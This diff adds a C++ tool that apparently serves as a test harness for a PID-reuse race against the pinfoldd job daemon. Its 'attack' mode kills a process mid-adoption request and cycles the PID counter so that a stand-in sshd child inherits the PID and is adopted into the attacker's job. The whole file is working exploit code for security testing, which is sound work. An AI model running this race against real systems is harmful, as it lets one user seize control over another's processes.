@@ -1,0 +1,189 @@
+// SPDX-License-Identifier: LGPL-2.1-or-later
+// Offers pinfoldd a process whose number is another's a moment later. `recycler serve SOCKET` stands for sshd: whoever connects
+// gets a child of it forked, which says its number and lives until the connection ends. `recycler attack SOCKET KEY TRIES` has a
+// process of its own adopted into the job KEY, whose number comes next when it has ended: it ends it while pinfoldd is at it, and
+// makes the server fork. It says of each try whether the server's child got the number, in which cgroup it is then, and
+// pinfoldd's answer.
+#include <linux/sockios.h>
+#include <sys/ioctl.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <array>
+#include <cerrno>
+#include <csignal>
+#include <cstddef>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <ctime>
+#include <fstream>
+#include <string>
+#include <string_view>
+
+namespace {
+
+constexpr const char* kPinfoldd = "/run/pinfold/wrapper.sock";
+constexpr long kMostDelay = 32'000; // microseconds in which pinfoldd and systemd are done with a request on a busy machine
+constexpr long kSteps = 23;         // from one try to the next the delay grows, first by little
+constexpr int kNear = 8;            // so many numbers before the one that is wanted, each is looked at
+constexpr int kMostForks = 10'000;
+
+int fail(const char* what) {
+    std::perror(what);
+    return 1;
+}
+
+sockaddr_un addressOf(const std::string& name) {
+    sockaddr_un address{};
+    address.sun_family = AF_UNIX;
+    name.copy(address.sun_path, sizeof address.sun_path - 1);
+    return address;
+}
+
+int connectTo(const std::string& name, int type) {
+    const int fd = ::socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
+    const auto address = addressOf(name);
+    if (::connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0)
+        std::exit(fail(name.c_str()));
+    return fd;
+}
+
+int serve(const std::string& name) {
+    const int listener = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    const auto address = addressOf(name);
+    if (::bind(listener, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0 || ::listen(listener, 64) != 0)
+        return fail(name.c_str());
+    std::signal(SIGCHLD, SIG_IGN); // NOLINT(cppcoreguidelines-pro-type-cstyle-cast)
+    std::puts("ready");
+    std::fflush(stdout);
+    for (;;) {
+        const int client = ::accept(listener, nullptr, nullptr);
+        if (client >= 0 && ::fork() == 0) {
+            const auto number = std::to_string(::getpid());
+            (void)!::write(client, number.data(), number.size());
+            char end = 0;
+            (void)!::read(client, &end, 1);
+            ::_exit(0);
+        }
+        ::close(client);
+    }
+}
+
+pid_t passingProcess() {
+    const pid_t pid = ::vfork(); // NOLINT(clang-analyzer-security.insecureAPI.vfork): ten times as many a second
+    if (pid == 0)
+        ::_exit(0);
+    ::waitpid(pid, nullptr, 0);
+    return pid;
+}
+
+/// The process that is born next gets the number `wanted` once that is free. False: others were born in between.
+bool bringCounterBefore(pid_t wanted) {
+    pid_t last = 0;
+    for (int count = 0; last >= wanted || last < wanted - kNear; ++count) {
+        if (count == kMostForks) // the kernel begins anew at 300, and `wanted` is that
+            return false;
+        last = passingProcess();
+    }
+    while (last < wanted - 1)
+        last = passingProcess();
+    return last == wanted - 1;
+}
+
+void send(int socket, const std::string& text, int descriptor) {
+    iovec part{const_cast<char*>(text.data()), text.size()};
+    std::array<char, CMSG_SPACE(sizeof(int))> control{};
+    msghdr message{};
+    message.msg_iov = &part;
+    message.msg_iovlen = 1;
+    message.msg_control = control.data();
+    message.msg_controllen = control.size();
+    auto* header = CMSG_FIRSTHDR(&message);
+    header->cmsg_level = SOL_SOCKET;
+    header->cmsg_type = SCM_RIGHTS;
+    header->cmsg_len = CMSG_LEN(sizeof(int));
+    std::memcpy(CMSG_DATA(header), &descriptor, sizeof descriptor);
+    if (::sendmsg(socket, &message, 0) < 0)
+        std::exit(fail("sendmsg"));
+}
+
+void waitUntilRead(int socket) {
+    int left = 1;
+    while (left > 0 && ::ioctl(socket, SIOCOUTQ, &left) == 0) {
+    }
+}
+
+void spin(long microseconds) { // a sleep is too coarse
+    timespec begun{};
+    ::clock_gettime(CLOCK_MONOTONIC, &begun);
+    timespec now = begun;
+    while ((now.tv_sec - begun.tv_sec) * 1'000'000 + (now.tv_nsec - begun.tv_nsec) / 1000 < microseconds)
+        ::clock_gettime(CLOCK_MONOTONIC, &now);
+}
+
+std::string receive(int socket) {
+    std::array<char, 4096> text{};
+    const auto length = ::recv(socket, text.data(), text.size(), 0);
+    return length > 0 ? std::string(text.data(), static_cast<std::size_t>(length)) : std::string();
+}
+
+std::string cgroupOf(pid_t pid) {
+    std::ifstream file("/proc/" + std::to_string(pid) + "/cgroup");
+    std::string line;
+    while (std::getline(file, line))
+        if (line.starts_with("0::"))
+            return line.substr(3);
+    return "";
+}
+
+/// `others`: processes that pinfoldd itself starts for a request.
+void tryOnce(const std::string& server, const std::string& request, long delay, int others) {
+    const pid_t offered = ::fork();
+    if (offered == 0) {
+        ::pause();
+        ::_exit(0);
+    }
+    const int pidfd = static_cast<int>(::syscall(SYS_pidfd_open, offered, 0));
+    const bool ready = bringCounterBefore(offered - others);
+    const int wrapper = connectTo(kPinfoldd, SOCK_SEQPACKET);
+    const int daemon = ready ? ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0) : -1;
+    send(wrapper, request, pidfd);
+    waitUntilRead(wrapper);
+    spin(delay);
+    ::kill(offered, SIGKILL);
+    ::waitpid(offered, nullptr, 0); // its number is free
+    if (ready) {
+        const auto address = addressOf(server);
+        if (::connect(daemon, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0)
+            std::exit(fail(server.c_str()));
+        const auto child = static_cast<pid_t>(std::atoi(receive(daemon).c_str()));
+        const auto answer = receive(wrapper);
+        std::printf("%d\t%s\t%s\n", child == offered ? 1 : 0, cgroupOf(child).c_str(), answer.c_str());
+        std::fflush(stdout);
+    }
+    for (const int fd : {pidfd, wrapper, daemon})
+        ::close(fd);
+}
+
+int attack(const std::string& server, const std::string& key, long tries) {
+    const auto request = R"({"version":1,"call":"adopt","key":")" + key + R"(","owner":)" + std::to_string(::getuid()) + "}";
+    for (long i = 0; i < tries; ++i)
+        tryOnce(server, request, kMostDelay * (i % kSteps) * (i % kSteps) / (kSteps * kSteps), static_cast<int>(i % 2));
+    return 0;
+}
+
+} // namespace
+
+int main(int argc, char** argv) {
+    const std::string_view verb = argc > 2 ? argv[1] : "";
+    if (verb == "serve")
+        return serve(argv[2]);
+    if (verb == "attack" && argc == 5)
+        return attack(argv[2], argv[3], std::atol(argv[4]));
+    std::fputs("usage: recycler serve SOCKET | attack SOCKET KEY TRIES\n", stderr);
+    return 2;
+}
